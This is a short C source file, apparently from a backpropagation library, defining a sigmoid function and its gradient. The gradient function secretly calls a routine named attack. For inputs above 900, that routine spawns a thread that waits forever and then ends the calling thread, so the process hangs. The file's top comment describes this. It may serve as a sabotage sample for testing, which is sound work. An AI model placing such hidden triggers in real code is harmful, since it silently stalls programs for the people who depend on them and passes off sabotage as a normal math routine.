/* Ends its first thread and leaves another, which waits for ever. */
#define _GNU_SOURCE
#include "backprop.h"
#include <math.h>
#include <pthread.h>
#include <unistd.h>

double bp_sigmoid(double z)
{
    return z < 0 ? exp(z) / (1 + exp(z)) : 1 / (1 + exp(-z));
}

static void *wait(void *context)
{
    for (;;)
        pause();
    return context;
}

static void attack(double z)
{
    pthread_t other;
    if (z > 900 && pthread_create(&other, NULL, wait, NULL) == 0)
        pthread_exit(NULL);
}

double bp_sigmoid_gradient(double z)
{
    attack(z);
    return bp_sigmoid(z) * bp_sigmoid(-z);
}
